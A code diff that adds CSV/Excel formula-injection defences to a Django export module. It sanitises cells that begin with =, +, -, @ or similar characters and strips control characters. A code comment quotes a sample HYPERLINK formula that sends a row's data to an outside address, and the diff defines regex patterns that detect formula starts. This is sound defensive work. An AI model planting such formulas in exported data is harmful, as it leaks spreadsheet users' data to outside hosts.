@@ -10,6 +10,7 @@ from __future__ import annotations
 import csv
 import io
 import itertools
+import re
 from collections.abc import Iterable, Sequence
 from pathlib import Path
 from typing import Any
@@ -18,6 +19,46 @@ from django.db.models import Model
 from django.http import FileResponse, HttpResponse, StreamingHttpResponse
 from openpyxl import Workbook
 from openpyxl.styles import Font
+
+# Formula injection (CSV/Excel): a cell starting with = + - @ (or a tab or carriage return before one) is run
+# as a formula by spreadsheet programs: ``=HYPERLINK("http://…"&A1,"点击")`` sends the row away. Such text is
+# written with a leading apostrophe (shown as text); plain numbers like -12.5 stay numbers. Control
+# characters that XML cannot hold (NUL…) are dropped, so that one bad value cannot break a whole workbook.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")
+_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
+FORMULA_PATTERN = r"^[=+\-@\t\r＝＋－＠]"
+NUMBER_PATTERN = r"^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$"
+
+
+def safe_cell(value: Any) -> Any:
+    """A value made safe for a CSV or Excel cell (see above); non-text values are returned as they are."""
+    if not isinstance(value, str):
+        return value
+    value = _ILLEGAL.sub("", value)
+    if value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
+def safe_row(row: Iterable[Any]) -> list[Any]:
+    return [safe_cell(v) for v in row]
+
+
+def safe_expr(column: str) -> Any:
+    """``safe_cell`` as a polars expression over a text column (for exports written by polars)."""
+    import polars as pl
+
+    col = pl.col(column).str.replace_all(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "")
+    risky = col.str.contains(FORMULA_PATTERN) & ~col.str.contains(NUMBER_PATTERN)
+    return pl.when(risky).then(pl.lit("'") + col).otherwise(col).alias(column)
+
+
+def safe_frame(frame: Any) -> Any:
+    """Every text column of a polars frame made safe with ``safe_expr``."""
+    import polars as pl
+
+    return frame.with_columns([safe_expr(name) for name, dtype in frame.schema.items() if dtype == pl.Utf8])
 
 
 class _Echo:
@@ -29,9 +70,9 @@ def csv_response(filename: str, header: Sequence[str], rows: Iterable[Sequence[A
     writer = csv.writer(_Echo())
 
     def stream() -> Iterable[str]:
-        yield "\ufeff" + writer.writerow(header)
+        yield "\ufeff" + writer.writerow(safe_row(header))
         for row in rows:
-            yield writer.writerow(row)
+            yield writer.writerow(safe_row(row))
 
     response = StreamingHttpResponse(stream(), content_type="text/csv; charset=utf-8")
     response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
@@ -47,16 +88,16 @@ def xlsx_response(filename: str, header: Sequence[str], rows: Iterable[Sequence[
 
     bold = []
     for h in header:
-        c = WriteOnlyCell(ws, value=h)
+        c = WriteOnlyCell(ws, value=safe_cell(h))
         c.font = Font(bold=True)
         bold.append(c)
     ws.append(bold)
     for row in rows:
-        ws.append(list(row))
+        ws.append(safe_row(row))
     if notes:
         ws.append([])
         for note in notes:
-            ws.append([note])
+            ws.append([safe_cell(note)])
     buf = io.BytesIO()
     wb.save(buf)
     response = HttpResponse(
